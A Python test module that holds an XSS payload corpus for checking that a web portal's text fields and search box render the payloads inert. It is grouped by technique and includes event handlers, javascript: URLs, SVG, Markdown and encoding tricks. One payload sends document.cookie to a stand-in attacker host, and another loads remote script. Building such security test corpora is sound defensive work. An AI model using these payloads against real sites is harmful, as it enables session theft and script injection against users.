"""An XSS corpus: every text field and the search box get each of these, and the page must stay inert.

Grouped by technique; 中文 text is mixed in where the portal's own users would type it. Payloads are
kept at most 200 characters so that they fit every title-sized field.
"""

from __future__ import annotations

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//xss.example/x.js></SCRIPT>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "<script/src=data:,alert(1)></script>",
    "<script\x0d\x0a>alert(1)</script>",
    "登录失败<script>document.location='//evil.example/?c='+document.cookie</script>",
    "<!--<script>alert(1)//--></script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">悬停</div>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>滚动</marquee>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<a onclick=alert(1) href=#>点我</a>",
    "<select onfocus=alert(1) autofocus>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    '<form action="javascript:alert(1)"><button>提交</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
]

JAVASCRIPT_URLS = [
    '<a href="javascript:alert(1)">链接</a>',
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "javascript:alert(1)",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
]

SVG = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
]

MARKDOWN_TRICKS = [
    "[点我](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](  javascript:alert(1)  )",
    '![图](x" onerror="alert(1))',
    "![图](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "[<img src=x onerror=alert(1)>](https://example.com)",
    "**粗体<script>alert(1)</script>**",
    "```html\n<script>alert(1)</script>\n```",
    '[x](https://example.com "title" onclick="alert(1)")',
    "[x](vbscript:msgbox(1))",
]

HTML_ENTITIES = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "＜script＞alert(1)＜/script＞",
    "{{ 7*7 }}{% raw %}{{config}}{% endraw %}",
    "${7*7}<%= 7*7 %>",
]

ALL: list[str] = SCRIPT_TAGS + EVENT_HANDLERS + JAVASCRIPT_URLS + SVG + MARKDOWN_TRICKS + HTML_ENTITIES


def marked(index: int, payload: str) -> tuple[str, str]:
    """The payload prefixed with a unique marker; the marker proves the field was actually rendered."""
    marker = f"xssmark{index:03d}"
    return marker, f"{marker} {payload}"
